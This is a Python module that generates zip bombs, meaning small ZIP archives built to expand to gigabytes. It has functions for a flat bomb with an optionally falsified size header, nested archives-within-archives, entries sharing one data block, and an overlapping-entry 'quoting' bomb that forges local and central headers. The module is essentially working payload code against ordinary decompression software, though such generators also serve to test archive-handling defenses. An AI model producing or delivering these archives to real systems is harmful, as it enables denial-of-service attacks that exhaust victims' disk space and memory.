"""ZIP archives of a few kilobytes or megabytes that unpack to gigabytes."""

from __future__ import annotations

import struct
import zlib

from .deflate import CHUNK, checksum, deflated
from .zip_entries import DEFLATED, Entry, central_head, local_head, raw_zip


def flat_bomb(times: int, size: int | None = None) -> bytes:
    """One text of `times` megabytes; `size` is what it says of itself, if that is a lie."""
    said = times * len(CHUNK) if size is None else size
    return raw_zip([Entry("bomb.txt", deflated(times), method=DEFLATED, size=said, crc=checksum(times))])


def nested_bomb(depth: int, width: int = 16) -> bytes:
    """Archives in archives, `width` in each, a text of 10 MB in each of the innermost."""
    data = flat_bomb(10)
    for level in range(depth):
        packer = zlib.compressobj(9, wbits=-15)
        packed = packer.compress(data) + packer.flush()
        one = Entry("", packed, method=DEFLATED, size=len(data), crc=zlib.crc32(data))
        data = raw_zip(
            Entry(f"{level}-{number}.zip", one.data, method=DEFLATED, size=one.size, crc=one.crc)
            for number in range(width)
        )
    return data


def shared_bomb(count: int) -> bytes:
    """Entries whose data are the same 5 MB, which stand once."""
    one = Entry("0.txt", deflated(5), method=DEFLATED, size=5 * len(CHUNK), crc=checksum(5))
    return raw_zip([one] * count, shared=1)


def quoting_bomb(count: int, times: int) -> bytes:
    """Entries that overlap: each holds the heads of all after it, quoted, and the same 5 MB at the end."""
    packed, crc, size = deflated(times), checksum(times), times * len(CHUNK)
    files = [Entry(f"{count - 1:03}.txt", packed, method=DEFLATED, size=size, crc=crc)]
    tail = local_head(files[0]) + packed
    kernel = CHUNK * times
    quoted = b""
    for number in reversed(range(count - 1)):
        head = local_head(files[-1])
        quoted = head + quoted
        packed = b"\0" + struct.pack("<2H", len(head), len(head) ^ 0xFFFF) + tail
        crc = zlib.crc32(kernel, zlib.crc32(quoted))
        size += len(head)
        files.append(Entry(f"{number:03}.txt", packed, method=DEFLATED, size=size, crc=crc))
        tail = local_head(files[-1]) + packed
    whole = len(tail)
    central = b"".join(
        central_head(one, whole - len(local_head(one)) - len(one.data)) for one in reversed(files)
    )
    return tail + central + b"PK\5\6" + struct.pack("<4H2LH", 0, 0, count, count, len(central), whole, 0)
